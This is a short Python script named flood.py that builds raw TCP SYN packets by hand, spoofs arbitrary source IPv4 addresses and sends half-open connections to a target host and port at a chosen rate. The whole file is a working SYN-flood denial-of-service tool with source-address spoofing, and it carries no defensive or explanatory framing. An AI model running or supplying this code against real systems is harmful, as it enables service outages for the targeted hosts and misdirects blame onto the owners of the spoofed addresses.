"""flood.py ADDRESS PORT COUNT RATE SOURCE ...: COUNT connections to ADDRESS and PORT, opened halfway.

Sends a SYN from each port of each SOURCE (IPv4, which need not be this host's own), at most RATE a second,
and nothing else. Prints how many seconds it took.
"""
import socket
import struct
import sys
import time

address, port, count, rate, *sources = sys.argv[1:]
port, count, rate = int(port), int(count), int(rate)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def folded(words):
    total = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    return (total & 0xFFFF) + (total >> 16)


def syns(source):
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends
    known = folded(struct.unpack("!10H", ends + struct.pack("!HHHH", 6, 20, port, 0x5002) + bytes(4)))
    for here in range(1024, 65536):
        # The first number is `here`, too; the window is 0.
        checksum = ~folded((known, here, here)) & 0xFFFF
        yield ip + struct.pack("!HHIIHHHH", here, port, here, 0, 0x5002, 0, checksum, 0)


start, sent = time.monotonic(), 0
for packet in (packet for source in sources for packet in syns(source)):
    if sent == count:
        break
    raw.sendto(packet, (address, 0))
    sent += 1
    if sent % 256 == 0:
        time.sleep(max(0, start + sent / rate - time.monotonic()))
print(f"{time.monotonic() - start:.1f}")
